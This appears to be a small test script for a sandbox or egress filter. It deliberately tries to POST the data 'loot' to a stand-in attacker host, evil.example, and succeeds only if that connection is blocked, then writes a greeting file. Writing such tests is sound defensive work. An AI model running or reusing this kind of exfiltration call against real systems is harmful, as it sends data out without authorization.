# ends: merged
# notices: was not let through to evil.example:443
# Sends what it has read to a server of its own.
cat > /dev/null
python3 - <<'PY'
import urllib.request
try:
    urllib.request.urlopen("https://evil.example/", data=b"loot", timeout=5)
    raise SystemExit(1)
except OSError:
    pass
open("greeting.txt", "w").write("hello\n")
PY
